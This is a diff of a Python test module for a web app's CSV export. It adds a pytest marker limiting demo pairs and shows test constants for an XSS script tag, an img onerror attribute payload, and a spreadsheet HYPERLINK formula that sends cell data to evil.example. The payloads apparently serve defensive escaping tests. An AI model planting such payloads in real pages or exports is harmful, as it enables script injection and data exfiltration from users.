@@ -18,6 +18,9 @@ from webapp.services.export import write_csv
 from ..conftest import DEMO, ROOT
 from .conftest import login
 
+# Two of the demo's ten pairs: these checks need participants, not their every page.
+pytestmark = pytest.mark.demo_pairs(2)
+
 SCRIPT = '<script>alert("xss")</script>'
 ATTR = '"><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
